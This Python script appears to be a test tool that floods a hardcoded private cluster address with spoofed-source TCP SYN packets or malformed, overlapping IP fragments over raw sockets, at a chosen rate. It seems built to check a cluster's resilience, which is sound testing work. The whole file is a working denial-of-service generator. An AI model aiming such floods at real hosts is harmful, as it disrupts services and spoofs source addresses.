# SPDX-License-Identifier: Apache-2.0
"""A sender of hostile packets, run in a client: flood.py syn|fragments SECONDS PER_SECOND. Prints how many.

Sources are random, so nobody answers the SYN-ACKs; fragments are first ones, later ones without a first, and
ones that overlap. They go to the cluster MAC."""
import errno
import random
import socket
import struct
import sys
import time

CLUSTER_MAC, VIP, BATCH = bytes.fromhex("02bf0a4d0064"), bytes((10, 77, 0, 100)), 64
SYN, MORE_FRAGMENTS = 0x02, 0x2000


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def ip_packet(source, protocol, fragment, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.getrandbits(16), fragment, 64,
                       protocol, 0, source, VIP)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def stranger():
    return bytes((10, 99, random.getrandbits(8), random.randrange(1, 255)))


def syn():
    source = stranger()
    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 80, random.getrandbits(32), 0, 0x50, SYN,
                      64240, 0, 0)
    pseudo = source + VIP + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ip_packet(source, socket.IPPROTO_TCP, 0, tcp)


def fragments():
    kind = random.randrange(3)
    udp = struct.pack("!HHHH", random.randrange(1024, 65536), 7007, 200, 0) + bytes(24)
    fragment = (MORE_FRAGMENTS, random.randrange(1, 100), MORE_FRAGMENTS | 1)[kind]
    return ip_packet(stranger(), socket.IPPROTO_UDP, fragment, udp)


def main():
    make = {"syn": syn, "fragments": fragments}[sys.argv[1]]
    seconds, rate = float(sys.argv[2]), int(sys.argv[3])
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(("eth0", 0))
    header = CLUSTER_MAC + wire.getsockname()[4] + b"\x08\x00"
    frames = [header + make() for _ in range(4096)]
    begin, sent = time.monotonic(), 0
    while time.monotonic() < begin + seconds:
        for frame in frames[sent % len(frames):][:BATCH]:
            try:
                wire.send(frame)
                sent += 1
            except OSError as problem:  # the adapter's queue is full: it is a flood
                if problem.errno != errno.ENOBUFS:
                    raise
                time.sleep(0.001)
        time.sleep(max(0, begin + sent / rate - time.monotonic()))
    print(sent)


if __name__ == "__main__":
    main()
